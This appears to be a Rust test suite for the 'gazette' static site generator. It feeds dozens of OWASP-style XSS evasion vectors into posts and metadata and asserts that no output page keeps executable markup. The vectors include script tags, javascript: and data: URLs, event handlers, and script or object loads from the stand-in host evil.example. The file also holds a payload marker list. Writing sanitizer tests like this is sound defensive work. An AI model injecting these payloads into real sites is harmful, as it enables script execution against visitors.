//! Hostile HTML: one or more vectors per category of the OWASP XSS filter-evasion
//! cheat sheet (written for this test), placed in post bodies and in titles, tags,
//! categories and authors. No output page may keep anything executable, and text
//! fields must come out escaped exactly once.

use std::path::Path;

use gazette::build::{build, BuildOptions};
use scraper::{Html, Selector};

/// (category, vector). Every vector would run `alert` if it survived.
const VECTORS: &[(&str, &str)] = &[
    ("plain script", "<script>alert('x1')</script>"),
    ("script with src", "<script src=https://evil.example/x.js></script>"),
    ("case variation", "<ScRiPt>alert('x2')</sCrIpT>"),
    ("no closing tag", "<script src=//evil.example/x.js?<b>"),
    ("half-open tag", "<iframe src=http://evil.example/ <"),
    ("extraneous brackets", "<<script>alert('x3');//<</script>"),
    ("nested script", "<scr<script>ipt>alert('x4')</scr</script>ipt>"),
    ("javascript: href", "<a href=\"javascript:alert('x5')\">link</a>"),
    ("mixed case scheme", "<a href=\"JaVaScRiPt:alert('x6')\">link</a>"),
    ("entity-encoded scheme", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('x7')\">e</a>"),
    ("long entities no semicolons", "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert('x8')\">e</a>"),
    ("hex entities", "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('x9')\">e</a>"),
    ("embedded tab", "<a href=\"jav\tascript:alert('x10');\">t</a>"),
    ("encoded tab", "<a href=\"jav&#x09;ascript:alert('x11');\">t</a>"),
    ("encoded newline", "<a href=\"jav&#x0A;ascript:alert('x12');\">n</a>"),
    ("encoded carriage return", "<a href=\"jav&#x0D;ascript:alert('x13');\">r</a>"),
    // A raw NUL makes the loader refuse the whole file as binary (see
    // `raw_nul_bytes_refuse_the_post`), so inside a post it can only arrive encoded.
    ("null byte in scheme", "<a href=\"java&#0;script:alert('x14')\">z</a>"),
    ("leading spaces and meta chars", "<a href=\" &#14;  javascript:alert('x15');\">s</a>"),
    ("img javascript src", "<img src=\"javascript:alert('x16')\">"),
    ("img no quotes", "<IMG SRC=javascript:alert('x17')>"),
    ("grave accents", "<img src=`javascript:alert('x18')`>"),
    ("event handler", "<img src=x onerror=\"alert('x19')\">"),
    ("event handler odd case", "<body OnLoad=alert('x20')>"),
    ("event handler slash separator", "<img/src=x/onerror=alert('x21')>"),
    ("non-alpha-non-digit", "<script/xss src=\"//evil.example/x.js\"></script>"),
    ("malformed a tag", "\\<a onmouseover=\"alert('x22')\"\\>xxs</a>"),
    ("malformed img", "<IMG \"\"\"><SCRIPT>alert('x23')</SCRIPT>\">"),
    ("fromCharCode", "<img src=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("input image", "<input type=\"image\" src=\"javascript:alert('x24');\">"),
    ("body background", "<body background=\"javascript:alert('x25')\">"),
    ("svg onload", "<svg onload=alert('x26')><circle r=1></circle></svg>"),
    ("svg script", "<svg><script>alert('x27')</script></svg>"),
    ("svg a xlink", "<svg><a xlink:href=\"javascript:alert('x28')\"><text y=10>t</text></a></svg>"),
    ("svg animate", "<svg><animate attributeName=href to=javascript:alert('x29') /></svg>"),
    ("mathml", "<math><mtext><maction actiontype=statusline xlink:href=javascript:alert('x30')>m</maction></mtext></math>"),
    ("iframe javascript", "<iframe src=\"javascript:alert('x31');\"></iframe>"),
    ("iframe srcdoc", "<iframe srcdoc=\"<script>alert('x32')</script>\"></iframe>"),
    ("iframe event", "<iframe src=https://www.youtube.com/embed/x onload=alert('x33')></iframe>"),
    ("frameset", "<frameset><frame src=\"javascript:alert('x34');\"></frameset>"),
    ("object data", "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.html\"></object>"),
    ("embed", "<embed src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">"),
    ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('x35');\">"),
    ("meta refresh data", "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">"),
    ("base href", "<base href=\"javascript:alert('x36');//\">"),
    ("link stylesheet", "<link rel=\"stylesheet\" href=\"javascript:alert('x37');\">"),
    ("style tag", "<style>@import 'https://evil.example/x.css';body{background:url(\"javascript:alert('x38')\")}</style>"),
    ("style expression", "<div style=\"width: expression(alert('x39'));\">e</div>"),
    ("style url javascript", "<div style=\"background-image: url(javascript:alert('x40'))\">u</div>"),
    ("style escaped", "<div style=\"xss:expr/*x*/ession(alert('x41'))\">c</div>"),
    ("table background", "<table background=\"javascript:alert('x42')\"><tr><td>t</td></tr></table>"),
    ("data uri link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">d</a>"),
    ("vbscript", "<a href=\"vbscript:msgbox('x43')\">v</a>"),
    ("livescript", "<img src=\"livescript:[code]\">"),
    ("xml data island", "<xml id=i><x><c><![CDATA[<img src=\"javas]]><![CDATA[cript:alert('x44');\">]]></c></x></xml>"),
    ("comment trick", "<!--[if gte IE 4]><script>alert('x45');</script><![endif]-->"),
    ("nested quotes", "<img \"\"\"><script>alert(\"x46\")</script>\">"),
    ("attribute breakout", "<a title='\"><script>alert(1)</script>' href=\"#\">q</a>"),
    ("form action", "<form action=\"javascript:alert('x47')\"><button>b</button></form>"),
    ("button formaction", "<button formaction=\"javascript:alert('x48')\">b</button>"),
    ("details ontoggle", "<details open ontoggle=alert('x49')><summary>s</summary></details>"),
    ("template", "<template><script>alert('x50')</script></template>"),
    ("noscript breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert('x51')>\"></noscript>"),
    ("utf-7 charset", "<meta charset=\"UTF-7\">+ADw-script+AD4-alert('x52')+ADw-/script+AD4-"),
    ("unicode escapes in scheme", "<a href=\"\\u006Aavascript:alert('x53')\">u</a>"),
    ("percent-encoded scheme", "<a href=\"%6A%61%76%61%73%63%72%69%70%74:alert('x54')\">p</a>"),
];

/// Text fields: they must show literally, escaped exactly once.
const TITLE: &str = "<script>alert('title')</script> & \"Q\" <img src=x onerror=alert(1)>";
const TAG: &str = "<svg onload=alert('tag')>";
const CATEGORY: &str = "\"><script>alert('cat')</script>";
const AUTHOR: &str = "<a href=javascript:alert('author')>me</a>";

fn yaml_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

fn write_site(root: &Path) {
    std::fs::create_dir_all(root.join("content")).unwrap();
    std::fs::write(
        root.join("config.toml"),
        "base_url = \"https://x.example\"\n",
    )
    .unwrap();
    let body: String = VECTORS
        .iter()
        .map(|(category, vector)| format!("<p>{category}: {vector}</p>\n"))
        .collect();
    let header = format!(
        "---\ntitle: {}\ndate: 2021-12-24 10:00\ntags: [{}]\ncategories:\n  - {}\nauthor: {}\n---\n",
        yaml_quoted(TITLE),
        yaml_quoted(TAG),
        yaml_quoted(CATEGORY),
        yaml_quoted(AUTHOR)
    );
    std::fs::write(root.join("content/html.html"), format!("{header}\n{body}")).unwrap();
    // The same vectors in a Markdown body, where raw HTML passes through the converter.
    let markdown = format!(
        "---\ntitle: md\ndate: 2021-12-23 10:00\n---\n\n# Vectors\n\n{body}\n[md link](javascript:alert('md'))\n\n![img](javascript:alert('mdimg'))\n"
    );
    std::fs::write(root.join("content/md.md"), markdown).unwrap();
}

fn pages(dir: &Path) -> Vec<std::path::PathBuf> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .map(|e| e.unwrap().into_path())
        .filter(|p| p.extension().is_some_and(|e| e == "html"))
        .collect()
}

/// What a browser would treat as a URL scheme: control and space characters
/// dropped, lowercased.
fn scheme_of(value: &str) -> String {
    value
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase()
}

/// Whether markup holds anything from the vectors above.
fn carries_payload(html: &str) -> bool {
    let lower = html.to_ascii_lowercase();
    [
        "alert(",
        "evil.example",
        "javascript:",
        "data:",
        "scriptlet",
        "expression(",
        "+adw-",
    ]
    .iter()
    .any(|marker| lower.contains(marker))
}

#[test]
fn no_vector_survives_in_any_page() {
    let tmp = tempfile::tempdir().unwrap();
    write_site(tmp.path());
    let report = build(&BuildOptions::for_root(tmp.path())).unwrap();
    assert_eq!(report.posts, 2, "{:?}", report.problems);
    let public = tmp.path().join("public");
    let all = Selector::parse("*").unwrap();
    let pages = pages(&public);
    assert!(pages.len() > 5);
    for page in &pages {
        let html = std::fs::read_to_string(page).unwrap();
        let doc = Html::parse_document(&html);
        let shown = page.strip_prefix(&public).unwrap().display();
        for element in doc.select(&all) {
            let e = element.value();
            let name = e.name();
            if name == "script" && e.attr("type") == Some("application/ld+json") {
                // The article's JSON-LD: titles are JSON string data, inert while the
                // whole block still parses as one JSON document.
                let json: String = element.text().collect();
                assert!(
                    serde_json::from_str::<serde_json::Value>(&json).is_ok(),
                    "{shown}: JSON-LD broken open: {json}"
                );
            } else if name == "script" {
                // The theme's own scripts are files it ships, never inline text from posts.
                let src = e.attr("src").unwrap_or_default();
                assert!(
                    src.starts_with('/') && !src.starts_with("//"),
                    "{shown}: script {src:?}"
                );
                assert!(
                    !element.text().any(|t| t.contains("alert")),
                    "{shown}: inline script"
                );
            }
            // The theme has its own forms and icons; from a post, none of these may remain.
            let banned = [
                "iframe", "object", "embed", "frame", "frameset", "base", "form", "style", "svg",
                "math", "xml", "template", "link", "meta", "input", "button",
            ];
            // The theme's page metadata repeats titles and terms as attribute text:
            // inert as long as nothing broke out of the attribute, i.e. the element
            // carries no attribute the theme does not write.
            let theme_metadata = match name {
                "meta" => e
                    .attrs()
                    .all(|(a, _)| matches!(a, "name" | "property" | "content" | "charset")),
                "link" => {
                    e.attrs()
                        .all(|(a, _)| matches!(a, "rel" | "href" | "type" | "title" | "sizes"))
                        && !carries_payload(e.attr("href").unwrap_or_default())
                }
                _ => false,
            };
            if banned.contains(&name) && !theme_metadata {
                assert!(
                    !carries_payload(&element.html()),
                    "{shown}: <{name}> survived: {}",
                    element.html()
                );
            }
            if name == "meta" {
                assert!(
                    e.attr("http-equiv").is_none(),
                    "{shown}: {}",
                    element.html()
                );
            }
            for (attribute, value) in e.attrs() {
                let attribute = attribute.to_ascii_lowercase();
                assert!(
                    !attribute.starts_with("on"),
                    "{shown}: {attribute} survived: {}",
                    element.html()
                );
                assert!(
                    attribute != "srcdoc" && attribute != "formaction",
                    "{shown}: {attribute}"
                );
                let scheme = scheme_of(value);
                for bad in ["javascript:", "vbscript:", "livescript:", "data:text/html"] {
                    assert!(!scheme.starts_with(bad), "{shown}: {attribute}={value:?}");
                }
                if attribute == "style" {
                    assert!(
                        !scheme.contains("expression") && !scheme.contains("javascript"),
                        "{shown}: style={value:?}"
                    );
                }
            }
        }
        // Vectors may survive as visible text (`ipt>alert(…)`), never as markup.
        assert!(
            !html.to_ascii_lowercase().contains("<script>alert"),
            "{shown}"
        );
    }
}

#[test]
fn text_fields_are_escaped_exactly_once() {
    let tmp = tempfile::tempdir().unwrap();
    write_site(tmp.path());
    build(&BuildOptions::for_root(tmp.path())).unwrap();
    let public = tmp.path().join("public");
    let title_once = gazette::render::escape_html(TITLE);
    let title_twice = gazette::render::escape_html(&title_once);
    let mut seen_title = 0;
    for page in pages(&public) {
        let html = std::fs::read_to_string(&page).unwrap();
        for field in [TITLE, TAG, CATEGORY, AUTHOR] {
            assert!(!html.contains(field), "{}: raw {field:?}", page.display());
            let twice = gazette::render::escape_html(&gazette::render::escape_html(field));
            assert!(
                !html.contains(&twice),
                "{}: {field:?} escaped twice",
                page.display()
            );
        }
        assert!(!html.contains(&title_twice));
        if html.contains(&title_once) {
            seen_title += 1;
            // Read as HTML, the title is exactly the text written.
            let doc = Html::parse_document(&html);
            let title = Selector::parse("title").unwrap();
            if let Some(t) = doc.select(&title).next() {
                let text: String = t.text().collect();
                if text.contains("alert('title')") {
                    assert!(text.contains(TITLE), "{}: {text:?}", page.display());
                }
            }
        }
    }
    assert!(
        seen_title >= 2,
        "the title should appear on its page and in lists"
    );
}

#[test]
fn raw_nul_bytes_refuse_the_post() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tmp.path().join("content")).unwrap();
    let post = "---\ntitle: nul\n---\n<a href=\"java\0script:alert(1)\">z</a>\n";
    std::fs::write(tmp.path().join("content/nul.html"), post).unwrap();
    let report = build(&BuildOptions::for_root(tmp.path())).unwrap();
    assert_eq!(report.posts, 0);
    let problem = &report.problems[0];
    assert!(problem.message.contains("binary"), "{problem}");
    assert_eq!(
        (problem.line, problem.column),
        (Some(4), Some(14)),
        "{problem}"
    );
}
